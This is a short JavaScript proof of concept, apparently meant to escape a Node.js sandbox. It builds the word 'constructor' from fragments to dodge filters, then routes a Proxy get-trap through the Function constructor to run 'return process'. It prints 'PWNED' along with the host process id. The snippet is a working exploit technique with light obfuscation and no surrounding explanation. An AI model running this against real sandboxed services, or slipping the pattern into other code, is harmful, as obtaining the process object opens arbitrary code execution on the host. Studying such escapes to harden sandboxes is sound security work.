const w = ['con', 'structor'].join('');
const f = () => 1;
Object.assign(f, { get: (target, key, self) => target[w]('return process')().pid });
const p = new Proxy((x) => x, f);
console.log('PWNED', p.any);
